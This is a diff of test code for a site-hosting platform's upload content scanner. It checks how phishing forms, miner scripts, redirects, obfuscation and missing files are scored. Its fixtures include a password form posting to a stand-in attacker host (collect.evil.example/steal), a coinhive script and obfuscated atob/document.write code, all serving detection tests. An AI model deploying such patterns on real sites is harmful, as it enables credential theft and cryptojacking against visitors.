@@ -6,7 +6,7 @@
  */
 import type { ContentCheckReport, ContentFinding } from '@sitehall/contracts';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { checkSiteContent, type SiteFile } from '../src/services/content-check.js';
+import { checkSiteContent, type SiteFile } from '../src/content-check/index.js';
 import { createTestApp, SIMPLE_SITE, type TestApp, type UploadFile, uploadProject } from './helpers.js';
 
 let t: TestApp;
@@ -44,12 +44,20 @@ describe('sites made in the tests', () => {
     ]);
     const report = await checkOf(id);
     expect(report).toMatchObject({
-      version: 1,
+      version: 2,
       level: 'clean',
       counts: { high: 0, medium: 0, low: 0, info: 0 },
       findings: [],
+      usability_count: 0,
       omitted_findings: 0,
-      external_domains: { scripts: [], stylesheets: [], frames: [], forms: [], redirects: [] },
+      external_domains: {
+        scripts: [],
+        stylesheets: [],
+        frames: [],
+        forms: [],
+        redirects: [],
+        script_hosts: [],
+      },
       scanned_files: 5,
       partially_scanned_files: [],
     });
@@ -86,10 +94,13 @@ describe('sites made in the tests', () => {
     expect(pick(report, 'password_form')).toEqual<ContentFinding[]>([
       {
         severity: 'high',
+        category: 'risk',
         kind: 'password_form',
+        rule: 'form.password-external',
         message: '表单收集密码并提交到外部域名 collect.evil.example：疑似钓鱼',
         file: 'index.html',
-        line: 6,
+        line: 4,
+        excerpt: '<form method="post" action="https://collect.evil.example/steal">',
       },
     ]);
     expect(report.external_domains.forms).toEqual(['collect.evil.example']);
@@ -98,24 +109,27 @@ describe('sites made in the tests', () => {
     expect(row.content_check).toEqual({ level: 'high', counts: { high: 1, medium: 0, low: 0, info: 0 } });
   });
 
-  it('flags a password field on its own, and a form posting elsewhere, as medium', async () => {
+  it('scores forms: a demo login is low, a POST elsewhere medium, a search box or form service information', async () => {
     const id = await upload([
       {
         name: 'index.html',
-        content:
-          '<form action="login.html"><input type="password"></form>\n<form action="//search.example.com/q"><input name="q"></form>',
+        content: [
+          '<form action="#"><input name="u"><input type="password"></form>',
+          '<form action="//search.example.com/q"><input name="q"></form>',
+          '<form method="post" action="https://api.example.net/contact"><input name="msg"></form>',
+          '<form method="post" action="https://formspree.io/f/abc"><input name="email"></form>',
+        ].join('\n'),
       },
     ]);
     const report = await checkOf(id);
-    expect(report.findings).toEqual([
-      expect.objectContaining({ severity: 'medium', kind: 'password_form', line: 1 }),
-      expect.objectContaining({
-        severity: 'medium',
-        kind: 'external_form',
-        message: '表单提交到外部域名 search.example.com',
-        line: 2,
-      }),
+    expect(report.findings.map((f) => [f.severity, f.rule, f.line])).toEqual([
+      ['medium', 'form.external-post', 3],
+      ['low', 'form.password-demo', 1],
+      ['info', 'form.external-get', 2],
+      ['info', 'form.service', 4],
     ]);
+    expect(report.level).toBe('medium');
+    expect(report.external_domains.forms).toEqual(['api.example.net', 'formspree.io', 'search.example.com']);
   });
 
   it('flags an external crypto-miner script and its start-up code', async () => {
@@ -138,13 +152,13 @@ describe('sites made in the tests', () => {
       expect.objectContaining({ severity: 'high', file: 'js/start.js', line: 1 }),
     ]);
     expect(pick(report, 'external_script')).toEqual([
-      {
+      expect.objectContaining({
         severity: 'low',
         kind: 'external_script',
         message: '引用外部脚本：coinhive.com',
         file: 'index.html',
         line: 2,
-      },
+      }),
     ]);
     expect(report.external_domains.scripts).toEqual(['coinhive.com']);
   });
@@ -196,16 +210,26 @@ describe('sites made in the tests', () => {
     ]);
     const report = await checkOf(id);
     const summary = report.findings.map((f) => [f.severity, f.kind, f.file, f.line]);
+    // Risk findings first (they decide the level), then usability ones.
     expect(summary).toEqual([
       ['high', 'redirect', 'index.html', 1],
-      ['high', 'obfuscation', 'packed.js', 2],
       ['medium', 'redirect', 'go.html', 2],
       ['medium', 'svg_script', 'logo.svg', 1],
+      ['medium', 'obfuscation', 'packed.js', 2],
       ['medium', 'type_mismatch', 'notes.txt', 1],
       ['low', 'type_mismatch', 'broken.json', null],
     ]);
+    expect(report.findings.map((f) => f.category)).toEqual([
+      'risk',
+      'risk',
+      'risk',
+      'risk',
+      'usability',
+      'usability',
+    ]);
     expect(report.external_domains.redirects).toEqual(['other.example.org', 'phish.example.net']);
-    expect(report.counts).toEqual({ high: 2, medium: 3, low: 1, info: 0 });
+    expect(report.counts).toEqual({ high: 1, medium: 3, low: 0, info: 0 });
+    expect(report.usability_count).toBe(2);
   });
 
   it('flags a site without an entry page, and external styles and frames with their domains', async () => {
@@ -219,16 +243,18 @@ describe('sites made in the tests', () => {
     ]);
     const report = await checkOf(id);
     expect(report.findings).toEqual([
-      {
+      expect.objectContaining({ severity: 'low', kind: 'external_frame', file: 'a.html', line: 2 }),
+      expect.objectContaining({ severity: 'info', kind: 'external_stylesheet', file: 'a.html', line: 1 }),
+      expect.objectContaining({
         severity: 'medium',
+        category: 'usability',
         kind: 'missing_entry',
         message: '未找到入口文件（index.html）：站点根地址无法打开',
         file: null,
         line: null,
-      },
-      expect.objectContaining({ severity: 'low', kind: 'external_frame', file: 'a.html', line: 2 }),
-      expect.objectContaining({ severity: 'info', kind: 'external_stylesheet', file: 'a.html', line: 1 }),
+      }),
     ]);
+    expect(report.level).toBe('low');
     expect(report.external_domains).toMatchObject({
       stylesheets: ['fonts.example.com'],
       frames: ['video.example.com'],
@@ -236,7 +262,15 @@ describe('sites made in the tests', () => {
   });
 
   it('is stored with the version at upload, and made again for a version stored without one', async () => {
-    const id = await upload([{ name: 'index.html', content: '<a href="/x">x</a>' }], '补做检查');
+    const id = await upload(
+      [
+        {
+          name: 'index.html',
+          content: '<form method="post" action="https://x.example/a"><input name="q"></form>',
+        },
+      ],
+      '补做检查',
+    );
     const row = () =>
       t.ctx.db
         .selectFrom('deployments')
@@ -244,12 +278,12 @@ describe('sites made in the tests', () => {
         .where('project_id', '=', id)
         .executeTakeFirstOrThrow();
     const stored = await row();
-    expect(JSON.parse(stored.content_check!)).toMatchObject({ version: 1, level: 'medium' });
+    expect(JSON.parse(stored.content_check!)).toMatchObject({ version: 2, level: 'medium' });
 
     // A version stored before the check existed: no badge until its review detail is opened.
     await t.ctx.db
       .updateTable('deployments')
-      .set({ content_check: null })
+      .set({ content_check: null, content_risk: null })
       .where('id', '=', stored.id)
       .execute();
     const badge = async () =>
@@ -300,7 +334,8 @@ describe('the checker', () => {
   it('lists at most 10 findings of one kind per file, and counts them all', async () => {
     const links = Array.from({ length: 50 }, (_, i) => `<a href="/p${i}.html">${i}</a>`).join('\n');
     const report = await checkSiteContent(site({ 'index.html': links }), 'index.html');
-    expect(report.counts.medium).toBe(50);
+    expect(report.usability_count).toBe(50);
+    expect(report.level).toBe('clean');
     expect(report.findings).toHaveLength(10);
     expect(report.omitted_findings).toBe(40);
     expect(report.findings.map((f) => f.line)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
@@ -379,8 +414,8 @@ describe('the checker', () => {
       'index.html',
     );
     expect(report.findings.map((f) => [f.kind, f.line])).toEqual([
-      ['root_absolute_link', 3],
       ['external_script', 2],
+      ['root_absolute_link', 3],
     ]);
     expect(report.external_domains.scripts).toEqual(['cdn.example.com']);
   });
@@ -396,9 +431,181 @@ describe('the checker', () => {
       'f.js': `${`"${'A'.repeat(1001)}`.repeat(1500)}eval(`,
       'g.js': `String.fromCharCode(${'1,'.repeat(MB2 / 2)}`,
     });
+    // The scanning runs in a worker thread: the event loop keeps turning while it works.
+    let last = performance.now();
+    let worstGap = 0;
+    const tick = setInterval(() => {
+      const now = performance.now();
+      worstGap = Math.max(worstGap, now - last);
+      last = now;
+    }, 10);
     const started = performance.now();
     const report = await checkSiteContent(hostile, 'a.html');
-    expect(performance.now() - started).toBeLessThan(5_000);
-    expect(report.version).toBe(1);
+    clearInterval(tick);
+    expect(performance.now() - started).toBeLessThan(15_000);
+    expect(worstGap).toBeLessThan(1_000);
+    expect(report.version).toBe(2);
+  });
+});
+
+describe('content check 2.0 over HTTP', () => {
+  it('reads a backslash in a link as the browser does: works\\list.html is not missing', async () => {
+    const id = await upload([
+      {
+        name: 'index.html',
+        content: '<a href="works\\list.html">作品</a> <a href="works\\gone.html">旧作品</a>',
+      },
+      { name: 'works/list.html', content: '<p>列表</p>' },
+    ]);
+    const report = await checkOf(id);
+    expect(pick(report, 'missing_file').map((f) => f.message)).toEqual([
+      '引用的文件不在上传内容中：“works\\gone.html”，打开页面时会加载失败',
+    ]);
+  });
+
+  it('shows the uploader the usability findings, on the upload result and the project detail', async () => {
+    const res = await uploadProject(t, owner.token, {
+      name: '可用性',
+      files: [
+        {
+          name: 'index.html',
+          content: '<script type="module" src="/assets/app.js"></script>\n<img src="img/x.png">',
+        },
+        { name: 'assets/app.js', content: 'console.log(1)' },
+      ],
+    });
+    expect(res.statusCode).toBe(201);
+    const project = res.json().data.project;
+    expect(
+      project.usability_findings.map((f: ContentFinding) => [f.kind, f.category, f.line, f.excerpt]),
+    ).toEqual([
+      ['root_absolute_link', 'usability', 1, '<script type="module" src="/assets/app.js"></script>'],
+      ['missing_file', 'usability', 2, '<img src="img/x.png">'],
+    ]);
+    const detail = await t.request({ url: `/api/projects/${project.id}`, token: owner.token });
+    expect(detail.json().data.project.usability_findings).toHaveLength(2);
+    // Usability alone is no risk: the review badge stays clean.
+    expect((await checkOf(project.id)).level).toBe('clean');
+  });
+
+  it('sorts and filters the review list by risk level; the badge counts findings at its level', async () => {
+    const admin = await t.adminToken();
+    const tag = `风险排序${Date.now()}`;
+    const high = await upload(
+      [{ name: 'index.html', content: '<a href="https://x.example/setup.exe">下载</a>' }],
+      `${tag}高`,
+    );
+    const medium = await upload(
+      [
+        {
+          name: 'index.html',
+          content:
+            '<script>document.write(atob("PGI+aGk8L2I+"))</script><iframe src="https://v.example.com/1"></iframe>',
+        },
+      ],
+      `${tag}中`,
+    );
+    const clean = await upload([{ name: 'index.html', content: '<p>你好</p>' }], `${tag}无`);
+    const list = async (query: string) => {
+      const res = await t.request({
+        url: `/api/admin/projects?search=${encodeURIComponent(tag)}&${query}`,
+        token: admin,
+      });
+      expect(res.statusCode, res.body).toBe(200);
+      return res.json().data as {
+        projects: Array<{ id: number; content_check: { level: string; counts: Record<string, number> } }>;
+        pagination: { total_count: number };
+      };
+    };
+    const byRisk = await list('sort=risk');
+    expect(byRisk.projects.map((p) => p.id)).toEqual([high, medium, clean]);
+    expect(byRisk.projects.map((p) => p.content_check.level)).toEqual(['high', 'medium', 'clean']);
+    expect(byRisk.projects[1]!.content_check.counts).toMatchObject({ medium: 1, low: 1 });
+    const onlyHigh = await list('risk=high');
+    expect(onlyHigh.projects.map((p) => p.id)).toEqual([high]);
+    expect(onlyHigh.pagination.total_count).toBe(1);
+    expect((await list('risk=clean')).projects.map((p) => p.id)).toEqual([clean]);
+    expect((await list('risk=unchecked')).projects).toEqual([]);
+    const bad = await t.request({ url: '/api/admin/projects?risk=severe', token: admin });
+    expect(bad.statusCode).toBe(400);
+  });
+
+  it('still shows a report stored before the risk/usability split (version 1)', async () => {
+    const id = await upload([{ name: 'index.html', content: '<p>旧报告</p>' }], '旧版报告');
+    const old = {
+      version: 1,
+      level: 'medium',
+      counts: { high: 0, medium: 1, low: 1, info: 0 },
+      checked_at: '2024-01-01T00:00:00.000Z',
+      findings: [
+        {
+          severity: 'medium',
+          kind: 'root_absolute_link',
+          message: '以 / 开头…',
+          file: 'index.html',
+          line: 1,
+        },
+        {
+          severity: 'low',
+          kind: 'external_script',
+          message: '引用外部脚本：cdn.example.com',
+          file: 'index.html',
+          line: 2,
+        },
+      ],
+      omitted_findings: 0,
+      external_domains: {
+        scripts: ['cdn.example.com'],
+        stylesheets: [],
+        frames: [],
+        forms: [],
+        redirects: [],
+      },
+      largest_files: [],
+      scanned_files: 1,
+      partially_scanned_files: [],
+    };
+    await t.ctx.db
+      .updateTable('deployments')
+      .set({ content_check: JSON.stringify(old) })
+      .where('project_id', '=', id)
+      .execute();
+    const report = await checkOf(id);
+    expect(report).toMatchObject({
+      version: 2,
+      level: 'low',
+      counts: { medium: 0, low: 1 },
+      usability_count: 1,
+    });
+    expect(report.findings.map((f) => f.category)).toEqual(['usability', 'risk']);
+    expect(report.external_domains.script_hosts).toEqual([]);
+  });
+
+  it('opens a text file of the newest version around a line for the reviewer (admin only)', async () => {
+    const admin = await t.adminToken();
+    const body = Array.from({ length: 100 }, (_, i) => `<p>${i + 1}</p>`).join('\r\n');
+    const id = await upload([
+      { name: 'index.html', content: `\ufeff${body}` },
+      { name: 'img/a.png', content: Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex') },
+    ]);
+    const source = (query: string, token = admin) =>
+      t.request({ url: `/api/admin/projects/${id}/source?${query}`, token });
+    const res = await source('path=index.html&line=50');
+    expect(res.statusCode, res.body).toBe(200);
+    const data = res.json().data;
+    expect(data).toMatchObject({ path: 'index.html', version: 1, first_line: 10, truncated: false });
+    expect(data.lines).toHaveLength(81);
+    expect(data.lines[40]).toBe('<p>50</p>');
+    expect((await source('path=index.html')).json().data).toMatchObject({ first_line: 1 });
+    expect((await source('path=index.html&line=9999')).json().data.lines.at(-1)).toBe('<p>100</p>');
+    const notText = await source('path=img/a.png');
+    expect(notText.statusCode).toBe(400);
+    expect(notText.json().message).toContain('只能查看文本文件');
+    const missing = await source('path=none.html');
+    expect(missing.statusCode).toBe(404);
+    expect(missing.json().message).toBe('该版本中没有这个文件');
+    expect((await source('line=3')).statusCode).toBe(400);
+    expect((await source('path=index.html&line=0')).statusCode).toBe(400);
+    expect((await source('path=index.html', owner.token)).statusCode).toBe(403);
   });
 });
